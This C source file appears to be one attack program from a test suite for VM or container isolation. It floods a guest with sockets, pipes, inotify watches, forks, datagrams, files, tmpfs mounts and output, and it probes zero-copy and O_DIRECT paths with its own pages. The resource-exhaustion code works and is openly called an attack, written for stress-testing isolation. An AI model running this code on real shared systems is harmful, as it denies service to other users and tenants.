// attack NAME: takes as much as it can get of what the VM has once, for some seconds, as the containers beside it go on.
// dma-net needs an address and a port that listens, dma-file a file of a volume.
#include "../programs/escape.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/inotify.h>
#include <sys/resource.h>

static time_t end;
static bool is_time_left(void) { return time(NULL) < end; }
static char block[32768];

static void raise_descriptors(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
}
static long sockets(void) {
    long total = 0;
    for (int pair[2]; is_time_left() && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0;)
        for (int end = 0; end < 2; end++) for (ssize_t n; (n = write(pair[end], block, sizeof block)) > 0;) total += n;
    return total;
}
static long pipes(void) {
    long total = 0;
    for (int ends[2]; is_time_left() && pipe2(ends, O_NONBLOCK) == 0;) {
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        for (ssize_t n; (n = write(ends[1], block, sizeof block)) > 0;) total += n;
    }
    return total;
}
static long watches(void) {
    long count = 0;
    while (is_time_left() && inotify_init1(0) >= 0) count++;
    int group = inotify_init1(0);
    char path[64];
    for (int i = 0; is_time_left() && i < 100000; i++) {
        snprintf(path, sizeof path, "/tmp/watch-%d", i);
        if (mkdir(path, 0755) < 0 || inotify_add_watch(group, path, IN_ALL_EVENTS) < 0) break;
        count++;
    }
    return count;
}
static long forks(void) {
    long count = 0;
    while (is_time_left()) {
        pid_t child = fork();
        if (child == 0) for (;;) pause();
        if (child < 0) usleep(1000); else count++;
    }
    return count;
}
static long datagrams(void) {
    long count = 0;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    for (int port = 20000; port < 60000 && is_time_left(); port++) {
        int receiver = socket(AF_INET, SOCK_DGRAM, 0), sender = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
        address.sin_port = htons((uint16_t)port);
        if (receiver < 0 || sender < 0 || bind(receiver, (void *)&address, sizeof address) < 0) break;
        for (int i = 0; i < 300; i++, count++) if (sendto(sender, block, 1400, 0, (void *)&address, sizeof address) < 0) break;
    }
    return count;
}
static long files(void) {
    long count = 0;
    char path[64];
    while (is_time_left()) {
        snprintf(path, sizeof path, "/tmp/file-%ld", count);
        int file = open(path, O_CREAT | O_WRONLY, 0644);
        if (file < 0) break;
        if (write(file, block, sizeof block) > 0) count++;
        close(file);
    }
    return count;
}
static long mounts(void) {
    long count = 0;
    char path[64];
    while (is_time_left()) {
        snprintf(path, sizeof path, "/tmp/mount-%ld", count);
        if (mkdir(path, 0755) < 0 || mount("x", path, "tmpfs", 0, NULL) < 0) break;
        count++;
    }
    return count;
}
static long output(void) {
    long total = 0;
    while (is_time_left()) {
        ssize_t n = write(1, block, sizeof block);
        if (n > 0) total += n;
    }
    return total;
}
// Pages of this program lie in the image's device memory.
static char *program_pages(size_t size) {
    char *map = mmap(NULL, size, PROT_READ, MAP_PRIVATE, open("/proc/self/exe", O_RDONLY), 0);
    volatile char sum = 0;
    for (size_t i = 0; i < size; i += 4096) sum += map[i];
    return map;
}
static long dma_net(char **words) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(words[1]))};
    inet_pton(AF_INET, words[0], &address.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    if (connect(fd, (void *)&address, sizeof address) < 0) { perror("connect"); return -1; }
    if (setsockopt(fd, SOL_SOCKET, 60 /* SO_ZEROCOPY */, &one, sizeof one) < 0) { perror("SO_ZEROCOPY"); return -1; }
    return send(fd, program_pages(128 << 10), 128 << 10, 0x4000000 /* MSG_ZEROCOPY */);
}
static long dma_file(char **words) {
    int file = open(words[0], O_CREAT | O_WRONLY | O_DIRECT, 0644);
    if (file < 0) { perror("open"); return -1; }
    long count = write(file, program_pages(128 << 10), 128 << 10);
    // Read back: both must be the program's.
    if (count > 0 && memcmp(mmap(NULL, 4096, PROT_READ, MAP_SHARED, open(words[0], O_RDONLY), 0), program_pages(4096), 4)) return -2;
    return count;
}

int main(int count, char **words) {
    static const struct { const char *name; long (*run)(void); } attacks[] = {
        {"sockets", sockets}, {"pipes", pipes}, {"watches", watches}, {"forks", forks}, {"datagrams", datagrams},
        {"files", files}, {"mounts", mounts}, {"output", output},
    };
    if (count < 2) return 2;
    memset(block, 'x', sizeof block);
    raise_descriptors();
    end = time(NULL) + (getenv("SECONDS_LONG") ? atoi(getenv("SECONDS_LONG")) : 8);
    long result = -1;
    if (!strcmp(words[1], "dma-net") && count == 4) result = dma_net(words + 2);
    if (!strcmp(words[1], "dma-file") && count == 3) result = dma_file(words + 2);
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        if (!strcmp(words[1], attacks[i].name)) result = attacks[i].run();
    fprintf(stderr, "attack %s: %ld\n", words[1], result);
    // What it has, it keeps until the end.
    while (is_time_left() && result >= 0 && strncmp(words[1], "dma", 3)) sleep(1);
    return result < 0;
}
